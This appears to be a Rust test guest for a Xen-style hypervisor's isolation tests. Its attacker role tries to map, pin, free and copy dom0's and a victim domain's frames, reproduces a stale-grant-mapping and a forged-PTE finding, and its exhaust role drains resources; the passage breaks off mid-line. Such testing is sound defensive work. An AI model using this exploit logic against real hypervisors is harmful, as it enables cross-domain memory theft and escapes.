//! `hostile`: the domU side of dom0test's `security` and `exhaustion` tests (issue 10). The
//! role is chosen with `role=<name>` on the command line; dom0 builds each domain paused and
//! writes the rest of the command line (machine frame numbers, ports, the domain's own id)
//! before it lets it run, because those are known only once the domains exist.
//!
//! - `victim`: sets up a grant table, fills a data frame and a secret frame with patterns,
//!   grants the data frame to `peer` (ref 1 writable, ref 2 read-only) and the secret frame to
//!   dom0 only (ref 3), prints `victim: ready …` with the frames, and blocks forever.
//! - `attacker`: tries to map, pin, switch to, free, grant-map and grant-copy dom0's and the
//!   victim's frames (given on its command line), each attempt printing
//!   `attack <name>: refused (<how>)` or `SUCCEEDED` after reading back its effect; runs the
//!   victim's grants end to end; then finding 2 (a grant mapped twice, handle 1 unmapped naming
//!   the other address, the granter destroyed by dom0) and finding 1 (its `shared_info` freed
//!   with `decrease_reservation`, pinned as an L1 and used to forge a PTE through event
//!   pending bits). It talks to dom0 over an interdomain event channel (`port`): it sends when
//!   it is ready for the victim to be destroyed and polls for dom0's answer.
//! - `exhaust`: allocates event ports until refused, maps its own grants until
//!   `GNTST_no_space`, writes a long line that never ends; every refusal must be an error code,
//!   and everything it took is given back before it powers off (mid-line, on purpose).
//! - `ticker`: prints `tick <n>` every [`TICK_NS`]: the neighbour dom0 watches.
//! - `partial`: writes a line without its newline and powers off.
//!
//! Every role prints `check` lines; dom0 reads them from the hypervisor's console ring and
//! judges (a domU's `Test result` line is its own verdict, which dom0 reads too).

use core::fmt::Write as _;
use core::sync::atomic::{Ordering, fence};

use guest_abi::calls;
use guest_abi::event::{EVTCHN_2L_NR_CHANNELS, EvtchnPort};
use guest_abi::grant::{
    GNTCOPY_DEST_GREF, GNTCOPY_SOURCE_GREF, GNTMAP_DEVICE_MAP, GNTMAP_HOST_MAP, GNTMAP_READONLY,
    GNTST_NO_SPACE, GNTST_OKAY, GNTTABOP_COPY, GNTTABOP_MAP_GRANT_REF, GNTTABOP_QUERY_SIZE,
    GNTTABOP_SETUP_TABLE, GNTTABOP_UNMAP_GRANT_REF, GTF_PERMIT_ACCESS, GTF_READONLY, GnttabCopy,
    GnttabCopyPtr, GnttabMapGrantRef, GnttabQuerySize, GnttabSetupTable, GnttabUnmapGrantRef,
    GrantHandle, GrantRef,
};
use guest_abi::hypercall::{HYPERVISOR_GRANT_TABLE_OP, hypercall3};
use guest_abi::memory::{
    MMU_MACHPHYS_UPDATE, MMU_NORMAL_PT_UPDATE, MMUEXT_PIN_L1_TABLE, MmuUpdate, MmuextOp,
    UVMF_INVLPG, UVMF_LOCAL, XENMEM_DECREASE_RESERVATION, XENMEM_POPULATE_PHYSMAP,
};
use guest_abi::sched::ShutdownReason;
use guest_abi::shared_info::EVTCHN_WORDS;
use guest_abi::types::{DOMID_SELF, DomId};
use xenia_guest_rt::boot::start_info;
use xenia_guest_rt::check::{Checks, Ret, Text, error, note, shutdown};
use xenia_guest_rt::mm::{self, PAGE, Window, pte};
use xenia_guest_rt::time::{NS_PER_MS, now_ns};
use xenia_guest_rt::trap::{PAGE_FAULT, Probe};
use xenia_guest_rt::{cmdline, console, events, println, probe};

/// How often `ticker` prints.
pub const TICK_NS: u64 = 100 * NS_PER_MS;
/// What the victim's data frame holds before anyone writes it: word `i` is `DATA_PATTERN | i`.
pub const DATA_PATTERN: u64 = 0x5649_4354_0000_0000;
/// What the victim's secret frame holds: word `i` is `SECRET_PATTERN | i`.
pub const SECRET_PATTERN: u64 = 0x5345_4352_0000_0000;
/// What the attacker writes through its grant mapping of the victim's data frame.
pub const GRANT_MAGIC: u64 = 0x4752_414e_5457_5254;
/// The word of the data frame the attacker writes [`GRANT_MAGIC`] to.
pub const GRANT_MAGIC_WORD: u64 = 9;
/// What the attacker writes wherever an attack let it write into a frame not its own.
pub const PWNED: u64 = 0x5057_4e45_445f_5f21;
/// Grant references the victim fills: its data frame for the peer, writable and read-only,
/// and its secret frame for dom0 only.
pub const REF_RW: GrantRef = 1;
/// See [`REF_RW`].
pub const REF_RO: GrantRef = 2;
/// See [`REF_RW`].
pub const REF_DOM0_ONLY: GrantRef = 3;
/// Entries per version-1 grant frame (8 bytes each).
const ENTRIES_PER_FRAME: u32 = 512;
/// How long the attacker waits for dom0 to destroy the victim.
const DOM0_WAIT_NS: u64 = 30_000 * NS_PER_MS;
/// Frames per batch the attacker gives back and asks for again to reclaim a freed frame.
const RECLAIM_FRAMES: usize = 64;
/// Most event ports `exhaust` tries: past the 2-level ABI's 4096 a refusal is overdue.
const PORT_TRIES: u32 = EVTCHN_2L_NR_CHANNELS + 16;
/// Grant frames `exhaust` asks for (if the domain may have that many).
const EXHAUST_GRANT_FRAMES: u32 = 16;
/// Maps per `GNTTABOP_map_grant_ref` batch of `exhaust`.
const MAP_BATCH: usize = 64;
/// Most maps `exhaust` tries: Xen's default maptrack limit (1024 frames of 256 handles) and a
/// margin; a hypervisor that has not refused by then takes unbounded memory.
const MAP_TRIES: u32 = 1024 * 256 + 4096;
/// Bytes per partial-line write of `exhaust`.
const PARTIAL_CHUNK: usize = 128;
/// Partial-line writes of `exhaust`: a 2 KiB line written in pieces (the hypervisor wraps
/// long lines; what must not grow is the partial line it keeps per domain, which the
/// `partial` domains and the heap figures measure).
const PARTIAL_WRITES: u32 = 16;

/// The pseudo-physical frame the attacker claims a foreign frame is in its M2P update: any
/// value does; the entry must not change.
const CLAIMED_PFN: u64 = 0x1234;
/// Where the attacker builds the tables finding 1 hooks `shared_info` next to (L4 slot 1,
/// which the bootstrap tables leave empty).
const HOOK_VA: u64 = 0x0000_0080_0000_0000;

/// Window slots: the attack target, two grant mappings, a frame of the attacker's own, the
/// grant table.
const SLOT_TARGET: usize = 0;
const SLOT_VA1: usize = 1;
const SLOT_VA2: usize = 2;
const SLOT_OWN: usize = 3;
const SLOT_TABLE: usize = 4;

/// The role named on the command line.
pub fn run() -> ! {
    let cmd = start_info().cmdline_bytes();
    match cmdline::value(cmd, "role") {
        Some(b"victim") => victim(),
        Some(b"attacker") => attacker(),
        Some(b"exhaust") => exhaust(),
        Some(b"ticker") => ticker(),
        Some(b"partial") => partial(),
        _ => error(format_args!(
            "hostile: role=victim|attacker|exhaust|ticker|partial expected"
        )),
    }
}

/// The hexadecimal number `key=<hex>` on the command line.
fn arg(key: &str) -> u64 {
    cmdline::value(start_info().cmdline_bytes(), key)
        .and_then(|v| core::str::from_utf8(v).ok())
        .and_then(|v| u64::from_str_radix(v, 16).ok())
        .unwrap_or_else(|| error(format_args!("hostile: no {key}=<hex> on the command line")))
}

// ---------------------------------------------------------------------------------------------
// Grant-table helpers.

/// `grant_table_op(cmd, ops, ops.len())`; returns `rax`.
///
/// # Safety
///
/// What the operations map, unmap or copy into must not be memory Rust code uses.
unsafe fn gnttab<T>(cmd: u32, ops: &mut [T]) -> i64 {
    // SAFETY: the operations are borrowed for the call; the caller vouches for the effect.
    unsafe {
        hypercall3(
            HYPERVISOR_GRANT_TABLE_OP,
            cmd.into(),
            ops.as_mut_ptr() as u64,
            ops.len() as u64,
        )
    }
}

/// `GNTTABOP_setup_table` for `nr` frames of the calling domain; returns the frames written.
fn setup_table(nr: u32, frames: &mut [u64]) -> Result<usize, (i64, i16)> {
    let mut s = [GnttabSetupTable {
        dom: DOMID_SELF,
        nr_frames: nr,
        status: 0x7777,
        frame_list: frames.as_mut_ptr() as u64,
    }];
    assert!(nr as usize <= frames.len());
    // SAFETY: the hypervisor writes `nr` frame numbers into `frames`, borrowed for the call.
    let ret = unsafe { gnttab(GNTTABOP_SETUP_TABLE, &mut s) };
    if ret == 0 && s[0].status == GNTST_OKAY {
        Ok(nr as usize)
    } else {
        Err((ret, s[0].status))
    }
}

/// The grant table's first frame, mapped writable in a window.
struct Table {
    window: Window,
}

impl Table {
    fn word(&self, r: GrantRef) -> *mut u32 {
        assert!(r < ENTRIES_PER_FRAME);
        (self.window.va() + 8 * u64::from(r)) as *mut u32
    }

    /// Grants `frame` to `domid` in entry `r`: frame and domid first, then the flags after a
    /// release fence (Xen's `gnttab_grant_foreign_access_ref`).
    fn grant(&self, r: GrantRef, domid: DomId, frame: u64, flags: u16) {
        let w = self.word(r);
        // SAFETY: the table frame is mapped writable in its window; the entry is not in use,
        // so the hypervisor does not write it.
        unsafe {
            w.add(1).write_volatile(frame as u32);
            (w as *mut u16).add(1).write_volatile(domid);
        }
        fence(Ordering::Release);
        // SAFETY: as above.
        unsafe { (w as *mut u16).write_volatile(flags) };
    }
}

/// One `GNTTABOP_map_grant_ref`; returns `rax` and the operation.
///
/// # Safety
///
/// `host_addr` must be an address Rust code does not use (a window slot).
unsafe fn gmap(host_addr: u64, flags: u32, gref: GrantRef, dom: DomId) -> (i64, GnttabMapGrantRef) {
    let mut op = [GnttabMapGrantRef {
        host_addr,
        flags,
        gref,
        dom,
        status: 0x7777,
        handle: 0xFFFF_FFFF,
        dev_bus_addr: 0,
    }];
    // SAFETY: as the caller vouches.
    let ret = unsafe { gnttab(GNTTABOP_MAP_GRANT_REF, &mut op) };
    (ret, op[0])
}

/// One `GNTTABOP_unmap_grant_ref`; returns `rax` and the status.
fn gunmap(host_addr: u64, handle: GrantHandle) -> (i64, i16) {
    let mut op = [GnttabUnmapGrantRef {
        host_addr,
        dev_bus_addr: 0,
        handle,
        status: 0x7777,
    }];
    // SAFETY: grant mappings live only in window slots, which Rust code reads only through
    // probes.
    let ret = unsafe { gnttab(GNTTABOP_UNMAP_GRANT_REF, &mut op) };
    (ret, op[0].status)
}

/// One `GNTTABOP_copy` of `len` bytes; returns `rax` and the status.
fn gcopy(source: GnttabCopyPtr, dest: GnttabCopyPtr, len: u16, flags: u16) -> (i64, i16) {
    let mut op = [GnttabCopy {
        source,
        dest,
        len,
        flags,
        status: 0x7777,
    }];
    // SAFETY: the frames a copy may legitimately write are the attacker's own scratch frame,
    // reached only through volatile window accesses; anything else must be refused.
    let ret = unsafe { gnttab(GNTTABOP_COPY, &mut op) };
    (ret, op[0].status)
}

/// A load from `va`, which may fault.
fn read_probe(va: u64) -> Option<u64> {
    let mut v: u64 = 0;
    // SAFETY: a load from a window slot the attacker owns; at worst it reads.
    let p: Probe =
        unsafe { probe!(PAGE_FAULT, "mov {v}, qword ptr [{a}]"; a = in(reg) va, v = inout(reg) v) };
    p.caught.is_none().then_some(v)
}

/// A store to `va`, which may fault; whether it completed.
fn write_probe(va: u64, value: u64) -> bool {
    // SAFETY: a store to a window slot; the frames behind it are the attacker's own or ones a
    // refused attack should not have reached (a store there is the escape the test reports).
    let p: Probe = unsafe {
        probe!(PAGE_FAULT, "mov qword ptr [{a}], {v}"; a = in(reg) va, v = in(reg) value)
    };
    p.caught.is_none()
}

fn window(what: &str, w: Result<Window, i64>) -> Window {
    w.unwrap_or_else(|e| error(format_args!("cannot open the {what} window: {}", Ret(e))))
}

// ---------------------------------------------------------------------------------------------
// victim

fn victim() -> ! {
    let peer = arg("peer") as DomId;
    let mut frames = [0u64; 1];
    if let Err((ret, s)) = setup_table(1, &mut frames) {
        error(format_args!(
            "victim: setup_table returned {}, status {s}",
            Ret(ret)
        ));
    }
    let gnt = frames[0];
    // SAFETY: the slot is the victim's; the frame is its grant table.
    let table = Table {
        window: window("grant table", unsafe { Window::writable(SLOT_TABLE, gnt) }),
    };
    let (Some((_, data)), Some((_, secret))) = (mm::fresh_frame(), mm::fresh_frame()) else {
        error(format_args!("victim: no fresh frames"));
    };
    for (slot, mfn, pattern) in [
        (SLOT_VA1, data, DATA_PATTERN),
        (SLOT_VA2, secret, SECRET_PATTERN),
    ] {
        // SAFETY: the slot is the victim's; the frame is fresh.
        let w = window("data", unsafe { Window::writable(slot, mfn) });
        for i in 0..512 {
            w.write(8 * i, pattern | i);
        }
        let _ = w.close();
    }
    table.grant(REF_RW, peer, data, GTF_PERMIT_ACCESS);
    table.grant(REF_RO, peer, data, GTF_PERMIT_ACCESS | GTF_READONLY);
    table.grant(REF_DOM0_ONLY, 0, secret, GTF_PERMIT_ACCESS);
    println!("victim: ready gnt={gnt:x} data={data:x} secret={secret:x}");
    console::flush();
    loop {
        // Nothing is bound: dom0 destroys this domain while it sleeps here.
        let _ = calls::sched_block();
    }
}

// ---------------------------------------------------------------------------------------------
// attacker

/// One frame under attack: its name on the attack lines, its machine frame, its owner.
#[derive(Clone, Copy)]
struct Target {
    name: &'static str,
    mfn: u64,
    owner: DomId,
}

/// The attack tally and the line of each attack.
struct Tally {
    refused: u32,
    succeeded: u32,
}

impl Tally {
    /// Prints `attack <name>: refused (<how>)` or `SUCCEEDED (<how>)`. An attack that left
    /// the hypervisor's frame table inconsistent (its own check, while a domU may still call
    /// it) got through whatever it returned.
    fn verdict(&mut self, name: impl core::fmt::Display, refused: bool, how: core::fmt::Arguments) {
        // -EIO is the check's "inconsistent"; anything else (EPERM once it is dom0's only)
        // says nothing.
        let broken = mm::check_frame_table() == Ret::err(guest_abi::Errno::EIO).0;
        if refused && !broken {
            self.refused += 1;
            println!("attack {name}: refused ({how})");
        } else {
            self.succeeded += 1;
            let why = if broken {
                "; the frame table is now INCONSISTENT"
            } else {
                ""
            };
            println!("attack {name}: SUCCEEDED ({how}{why})");
        }
    }
}

/// An `mmu_update` return value and `done` count as text.
fn rc(ret: i64) -> Ret {
    Ret(ret)
}

fn attacker() -> ! {
    events::mask();
    let mut c = Checks::new();
    let mut t = Tally {
        refused: 0,
        succeeded: 0,
    };
    let victim: DomId = arg("vic") as DomId;
    let port = arg("port") as EvtchnPort;
    let targets = [
        Target {
            name: "dom0-l4",
            mfn: arg("d0l4"),
            owner: 0,
        },
        Target {
            name: "dom0-l1",
            mfn: arg("d0l1"),
            owner: 0,
        },
        Target {
            name: "dom0-data",
            mfn: arg("d0data"),
            owner: 0,
        },
        Target {
            name: "dom0-shared-info",
            mfn: arg("d0si"),
            owner: 0,
        },
        Target {
            name: "victim-l4",
            mfn: arg("vl4"),
            owner: victim,
        },
        Target {
            name: "victim-secret",
            mfn: arg("vsecret"),
            owner: victim,
        },
        Target {
            name: "victim-shared-info",
            mfn: arg("vsi"),
            owner: victim,
        },
        Target {
            name: "victim-grant-frame",
            mfn: arg("vgnt"),
            owner: victim,
        },
    ];
    let v_data = arg("vdata");
    for target in &targets {
        if mm::p2m_contains(target.mfn) {
            error(format_args!(
                "{} (mfn {:#x}) is in the attacker's own p2m list",
                target.name, target.mfn
            ));
        }
    }
    println!(
        "attacker: victim d{victim}, {} foreign frames, dom0 port {port}",
        targets.len()
    );

    // SAFETY: the slot is the attacker's; emptying it unmaps a padding page nothing uses.
    let tw = window("target", unsafe { Window::open(SLOT_TARGET, 0) });
    let Some(slot) = mm::walk(tw.va())[3] else {
        error(format_args!("the target slot has no L1"));
    };
    let Some((own_pfn, own)) = mm::fresh_frame() else {
        error(format_args!("no fresh frame"));
    };
    // SAFETY: the slot is the attacker's; the frame is fresh.
    let ow = window("own", unsafe { Window::writable(SLOT_OWN, own) });
    for target in &targets {
        foreign_frame_attacks(&mut t, &tw, slot, &ow, own, target);
    }
    let _ = tw.close();

    grant_attacks(&mut t, &mut c, victim, &ow, own);
    let _ = ow.close();

    // Finding 1's tables are made now: finding 2's reclaim takes every fresh frame left.
    // SAFETY: an address nothing uses; map_page builds the tables down to an empty leaf.
    let hook = unsafe { mm::map_page(HOOK_VA, 0) }.map_err(|(what, e)| (what, Ret(e)));
    finding2(&mut t, victim, v_data, port, own_pfn);
    finding1(&mut t, &targets[2], hook);

    note(format_args!(
        "attacker: {} attacks refused, {} SUCCEEDED",
        t.refused, t.succeeded
    ));
    c.check(
        "every attack on another domain's frames was refused",
        t.succeeded == 0,
        format_args!("{} attacks succeeded", t.succeeded),
    );
    c.finish()
}

/// Map, pin, switch to, free, copy from and into, and re-number one foreign frame.
fn foreign_frame_attacks(
    t: &mut Tally,
    tw: &Window,
    slot: mm::Slot,
    ow: &Window,
    own: u64,
    target: &Target,
) {
    let name = target.name;
    let mfn = target.mfn;
    // mmu_update of an L1 entry, writable and read-only, then as dom0 would (foreigndom).
    for (what, flags, foreigndom) in [
        ("map-rw", pte::PRESENT | pte::RW, DOMID_SELF),
        ("map-ro", pte::PRESENT, DOMID_SELF),
        ("map-rw-foreigndom", pte::PRESENT | pte::RW, target.owner),
    ] {
        let req = [MmuUpdate::new(
            MMU_NORMAL_PT_UPDATE,
            slot.ma(),
            pte::entry(mfn, flags),
        )];
        let mut done = 0u32;
        // SAFETY: the entry is the emptied target slot's, which Rust code does not use.
        let ret = unsafe {
            mm::mmu_update_raw(
                req.as_ptr() as u64,
                1,
                &raw mut done as u64,
                foreigndom.into(),
            )
        };
        let entry = mm::read_entry(slot.table, slot.index).unwrap_or(u64::MAX);
        let read = if entry & pte::PRESENT != 0 {
            // SAFETY: flushes the slot's stale translation before the read.
            unsafe { mm::update_va(tw.va(), entry, UVMF_INVLPG | UVMF_LOCAL) };
            read_probe(tw.va())
        } else {
            None
        };
        t.verdict(
            format_args!("{what}-{name}"),
            ret < 0 && entry == 0,
            format_args!(
                "mmu_update returned {}, done {done}; entry now {entry:#x}{}",
                rc(ret),
                match read {
                    Some(v) => {
                        let mut s = Text::<48>::new();
                        let _ = write!(s, ", reads {v:#x}");
                        s
                    }
                    None => Text::new(),
                }
            ),
        );
        // SAFETY: empties the target slot again (the attempt may have filled it).
        unsafe { mm::update_va(tw.va(), 0, UVMF_INVLPG | UVMF_LOCAL) };
    }
    // update_va_mapping.
    // SAFETY: the target slot is the attacker's.
    let ret = unsafe { tw.set(pte::entry(mfn, pte::PRESENT | pte::RW), UVMF_INVLPG) };
    let entry = mm::read_entry(slot.table, slot.index).unwrap_or(u64::MAX);
    t.verdict(
        format_args!("update-va-mapping-{name}"),
        ret < 0 && entry == 0,
        format_args!("returned {}; entry now {entry:#x}", rc(ret)),
    );
    // SAFETY: as above.
    unsafe { mm::update_va(tw.va(), 0, UVMF_INVLPG | UVMF_LOCAL) };
    // Pins, as an L1 and as an L4; then as its owner would.
    for level in [1, 4] {
        // SAFETY: pinning a frame that is not the attacker's changes no mapping it uses.
        let ret = unsafe { mm::pin(level, mfn) };
        if ret >= 0 {
            // SAFETY: undoes the pin that should not have happened.
            unsafe { mm::unpin(mfn) };
        }
        t.verdict(
            format_args!("pin-l{level}-{name}"),
            ret < 0,
            format_args!("returned {}", rc(ret)),
        );
    }
    let op = [MmuextOp {
        cmd: MMUEXT_PIN_L1_TABLE,
        arg1: mfn,
        arg2: 0,
    }];
    let mut done = 0u32;
    // SAFETY: as above.
    let ret = unsafe {
        mm::mmuext_raw(
            op.as_ptr() as u64,
            1,
            &raw mut done as u64,
            target.owner.into(),
        )
    };
    t.verdict(
        format_args!("pin-l1-foreigndom-{name}"),
        ret < 0,
        format_args!("returned {}, done {done}", rc(ret)),
    );
    // New base pointer: only page tables could validate, and only dom0's and the victim's L4
    // are L4s; a switch that worked would run this code in the other domain's address space.
    if name.ends_with("-l4") {
        let before = mm::current_base();
        // SAFETY: must be refused; if it is not, the probe below shows whose tables are live.
        let ret = unsafe { mm::new_baseptr(mfn) };
        let moved = ret >= 0;
        if moved {
            // SAFETY: back to the attacker's own L4, which maps everything Rust uses.
            unsafe { mm::new_baseptr(before) };
        }
        t.verdict(
            format_args!("new-baseptr-{name}"),
            !moved,
            format_args!("returned {}", rc(ret)),
        );
    }
    // Free it (decrease_reservation), as itself and naming the owner.
    for (what, domid) in [("free", DOMID_SELF), ("free-foreigndom", target.owner)] {
        let mut extents = [mfn];
        // SAFETY: the frame is not the attacker's; nothing of its own can be freed here.
        let ret = unsafe { mm::reservation(XENMEM_DECREASE_RESERVATION, &mut extents, domid) };
        t.verdict(
            format_args!("{what}-{name}"),
            ret <= 0,
            format_args!("returned {} (extents freed)", rc(ret)),
        );
    }
    // Grant copies that name the frame directly (a gmfn, not a grant).
    for i in 0..512 {
        ow.write(8 * i, 0);
    }
    for (what, domid) in [("", DOMID_SELF), ("-as-owner", target.owner)] {
        for i in 0..8 {
            ow.write(8 * i, 0);
        }
        let mut src = GnttabCopyPtr::from_gmfn(mfn, 0);
        src.domid = domid;
        let (ret, s) = gcopy(src, GnttabCopyPtr::from_gmfn(own, 0), 64, 0);
        let got = (0..8).fold(0, |acc, i| acc | ow.read(8 * i));
        t.verdict(
            format_args!("copy-from{what}-{name}"),
            (ret < 0 || s != GNTST_OKAY) && got == 0,
            format_args!(
                "returned {}, status {s}; own frame's first 64 bytes OR to {got:#x}",
                rc(ret)
            ),
        );
    }
    for i in 0..8 {
        ow.write(8 * i, PWNED);
    }
    for (what, domid) in [("", DOMID_SELF), ("-as-owner", target.owner)] {
        let mut dst = GnttabCopyPtr::from_gmfn(mfn, 0);
        dst.domid = domid;
        let (ret, s) = gcopy(GnttabCopyPtr::from_gmfn(own, 0), dst, 64, 0);
        // dom0 reads its own and the victim's frames back afterwards; here only the status.
        t.verdict(
            format_args!("copy-into{what}-{name}"),
            ret < 0 || s != GNTST_OKAY,
            format_args!("returned {}, status {s}", rc(ret)),
        );
    }
    // Re-number it in the M2P.
    let m2p_before = mm::m2p(mfn);
    let req = [MmuUpdate::new(MMU_MACHPHYS_UPDATE, mfn << 12, CLAIMED_PFN)];
    // SAFETY: an M2P update changes no mapping.
    let (ret, _) = unsafe { mm::mmu_update(&req) };
    let m2p_after = mm::m2p(mfn);
    t.verdict(
        format_args!("machphys-update-{name}"),
        ret < 0 && m2p_after == m2p_before,
        format_args!(
            "returned {}; M2P entry {m2p_before:x?} -> {m2p_after:x?}",
            rc(ret)
        ),
    );
}

/// Grants that are not the attacker's, then the victim's real grants end to end.
fn grant_attacks(t: &mut Tally, c: &mut Checks, victim: DomId, ow: &Window, own: u64) {
    // SAFETY: the slot is the attacker's; emptying it unmaps a padding page nothing uses.
    let w1 = window("VA1", unsafe { Window::open(SLOT_VA1, 0) });
    let va = w1.va();
    let bad_maps: [(&str, u32, GrantRef, DomId); 5] = [
        ("gnt-map-dom0-ref-1", GNTMAP_HOST_MAP, 1, 0),
        ("gnt-map-dom0-ref-3", GNTMAP_HOST_MAP, REF_DOM0_ONLY, 0),
        (
            "gnt-map-victim-ref-for-dom0",
            GNTMAP_HOST_MAP,
            REF_DOM0_ONLY,
            victim,
        ),
        ("gnt-map-victim-ro-as-rw", GNTMAP_HOST_MAP, REF_RO, victim),
        ("gnt-map-victim-unused-ref", GNTMAP_HOST_MAP, 100, victim),
    ];
    for (name, flags, gref, dom) in bad_maps {
        // SAFETY: the slot is emptied and the attacker's.
        let (ret, op) = unsafe { gmap(va, flags, gref, dom) };
        let entry = mm::walk(va)[3].map_or(0, |s| s.entry);
        if op.status == GNTST_OKAY {
            let _ = gunmap(va, op.handle);
        }
        t.verdict(
            name,
            op.status != GNTST_OKAY && entry & pte::PRESENT == 0,
            format_args!(
                "returned {}, status {}; entry {entry:#x}",
                rc(ret),
                op.status
            ),
        );
    }
    for (name, gref) in [
        ("gnt-copy-victim-ref-for-dom0", REF_DOM0_ONLY),
        ("gnt-copy-victim-unused-ref", 100),
    ] {
        for i in 0..512 {
            ow.write(8 * i, 0);
        }
        let (ret, s) = gcopy(
            GnttabCopyPtr::from_gref(gref, victim, 0),
            GnttabCopyPtr::from_gmfn(own, 0),
            64,
            GNTCOPY_SOURCE_GREF,
        );
        let got = ow.read(0);
        t.verdict(
            name,
            s != GNTST_OKAY && got == 0,
            format_args!(
                "returned {}, status {s}; own frame starts {got:#x}",
                rc(ret)
            ),
        );
    }
    let (ret, s) = gcopy(
        GnttabCopyPtr::from_gmfn(own, 0),
        GnttabCopyPtr::from_gref(REF_RO, victim, 0),
        8,
        GNTCOPY_DEST_GREF,
    );
    t.verdict(
        "gnt-copy-into-victim-read-only-grant",
        s != GNTST_OKAY,
        format_args!("returned {}, status {s}", rc(ret)),
    );

    // The victim's grants, end to end: writable, then read-only.
    // SAFETY: the slot is emptied and the attacker's.
    let (ret, op) = unsafe { gmap(va, GNTMAP_HOST_MAP, REF_RW, victim) };
    if c.check(
        format_args!("map the victim's writable grant (ref {REF_RW}, d{victim})"),
        ret == 0 && op.status == GNTST_OKAY,
        format_args!("returned {}, status {}", rc(ret), op.status),
    ) {
        let first = read_probe(va);
        c.check(
            "the victim's pattern reads through the grant mapping",
            first == Some(DATA_PATTERN),
            format_args!("read {first:x?}"),
        );
        c.check(
            "a write through the writable grant mapping completes",
            write_probe(va + 8 * GRANT_MAGIC_WORD, GRANT_MAGIC),
            format_args!("it faulted"),
        );
        let (ret, s) = gunmap(va, op.handle);
        c.check(
            "unmap the writable grant",
            ret == 0 && s == GNTST_OKAY,
            format_args!("returned {}, status {s}", rc(ret)),
        );
        c.check(
            "the address is unmapped afterwards",
            read_probe(va).is_none(),
            format_args!("a read still completes"),
        );
    }
    // SAFETY: as above.
    let (ret, op) = unsafe { gmap(va, GNTMAP_HOST_MAP | GNTMAP_READONLY, REF_RO, victim) };
    if c.check(
        format_args!("map the victim's read-only grant (ref {REF_RO})"),
        ret == 0 && op.status == GNTST_OKAY,
        format_args!("returned {}, status {}", rc(ret), op.status),
    ) {
        let magic = read_probe(va + 8 * GRANT_MAGIC_WORD);
        c.check(
            "the write made through the writable mapping reads back",
            magic == Some(GRANT_MAGIC),
            format_args!("read {magic:x?}"),
        );
        let wrote = write_probe(va + 8, PWNED);
        t.verdict(
            "write-through-read-only-grant",
            !wrote,
            format_args!("the store {}", if wrote { "completed" } else { "faulted" }),
        );
        let (ret, s) = gunmap(va, op.handle);
        c.check(
            "unmap the read-only grant",
            ret == 0 && s == GNTST_OKAY,
            format_args!("returned {}, status {s}", rc(ret)),
        );
    }
    let (ret, s) = gcopy(
        GnttabCopyPtr::from_gref(REF_RW, victim, 8 * GRANT_MAGIC_WORD as u16),
        GnttabCopyPtr::from_gmfn(own, 0),
        8,
        GNTCOPY_SOURCE_GREF,
    );
    let got = ow.read(0);
    c.check(
        "grant copy from the victim's writable grant reads the magic",
        ret == 0 && s == GNTST_OKAY && got == GRANT_MAGIC,
        format_args!("returned {}, status {s}, read {got:#x}", rc(ret)),
    );
    let _ = w1.close();
}

/// Finding 2 from a domU: one grant mapped at VA1 and VA2, handle 1 unmapped naming VA2, the
/// granter destroyed (by dom0, on request): is VA1 a live mapping of a freed frame?
fn finding2(t: &mut Tally, victim: DomId, v_data: u64, port: EvtchnPort, own_pfn: u64) {
    // SAFETY: both slots are the attacker's; emptying them unmaps padding pages nothing uses.
    let w1 = window("VA1", unsafe { Window::open(SLOT_VA1, 0) });
    // SAFETY: as above.
    let w2 = window("VA2", unsafe { Window::open(SLOT_VA2, 0) });
    let (va1, va2) = (w1.va(), w2.va());
    // SAFETY: the slots are emptied and the attacker's.
    let (r1, m1) = unsafe { gmap(va1, GNTMAP_HOST_MAP, REF_RW, victim) };
    // SAFETY: as above.
    let (r2, m2) = unsafe { gmap(va2, GNTMAP_HOST_MAP, REF_RW, victim) };
    if r1 != 0 || m1.status != GNTST_OKAY || r2 != 0 || m2.status != GNTST_OKAY {
        println!(
            "attack stale-grant-mapping-after-granter-destroyed: ERROR (maps returned {}/{}, \
             status {}/{})",
            rc(r1),
            rc(r2),
            m1.status,
            m2.status
        );
        t.succeeded += 1;
        return;
    }
    let (ret, s) = gunmap(va2, m1.handle);
    let e1 = mm::walk(va1)[3].map_or(0, |s| s.entry);
    let e2 = mm::walk(va2)[3].map_or(0, |s| s.entry);
    t.verdict(
        "gnt-unmap-handle-naming-other-address",
        s != GNTST_OKAY,
        format_args!(
            "unmap(VA2, handle 1) returned {}, status {s}; VA1 entry {e1:#x}, VA2 entry {e2:#x}",
            rc(ret)
        ),
    );
    // Ask dom0 to destroy the victim, and wait for its answer.
    events::clear_pending(port);
    let sent = calls::evtchn_send(port);
    let deadline = now_ns() + DOM0_WAIT_NS;
    while !events::is_pending(port) && now_ns() < deadline {
        let _ = calls::sched_poll(&[port], deadline);
    }
    let answered = events::is_pending(port);
    events::clear_pending(port);
    if !answered {
        println!(
            "attack stale-grant-mapping-after-granter-destroyed: ERROR (no answer from dom0 \
             within {} ms; send returned {sent:?})",
            DOM0_WAIT_NS / NS_PER_MS
        );
        t.succeeded += 1;
        return;
    }
    let e1 = mm::walk(va1)[3].map_or(0, |s| s.entry);
    let live = e1 & pte::PRESENT != 0 && pte::mfn(e1) == v_data;
    let read = if live { read_probe(va1) } else { None };
    // Reclaim: give back frames of our own and ask for as many again; does the freed frame come
    // back to us while VA1 still maps it?
    let mut reclaimed = false;
    let mut pin = Ret(0);
    if live {
        let mut rounds = 0u32;
        let (mut freed_total, mut populated_total) = (0u64, 0u64);
        // Every fresh frame the attacker has, a batch at a time: each batch is given back and
        // asked for again, so the allocator hands out whatever it has, the victim's frames
        // included if they went back to it.
        loop {
            let mut give = [0u64; RECLAIM_FRAMES];
            let mut n = 0;
            while n < RECLAIM_FRAMES {
                match mm::fresh_frame() {
                    Some((_, mfn)) => {
                        give[n] = mfn;
                        n += 1;
                    }
                    None => break,
                }
            }
            if n == 0 {
                break;
            }
            // SAFETY: fresh frames are mapped nowhere.
            let freed =
                unsafe { mm::reservation(XENMEM_DECREASE_RESERVATION, &mut give[..n], DOMID_SELF) };
            let mut got = [0u64; RECLAIM_FRAMES];
            for (i, g) in got.iter_mut().enumerate().take(n) {
                *g = own_pfn + 1 + i as u64;
            }
            // SAFETY: the new frames are not mapped anywhere; the attacker only compares them.
            let populated =
                unsafe { mm::reservation(XENMEM_POPULATE_PHYSMAP, &mut got[..n], DOMID_SELF) };
            freed_total += freed.max(0) as u64;
            populated_total += populated.max(0) as u64;
            rounds += 1;
            if populated > 0 && got[..populated as usize].contains(&v_data) {
                reclaimed = true;
                break;
            }
            if freed <= 0 || populated <= 0 {
                break;
            }
        }
        note(format_args!(
            "finding 2: {rounds} rounds gave back {freed_total} frames and populated \
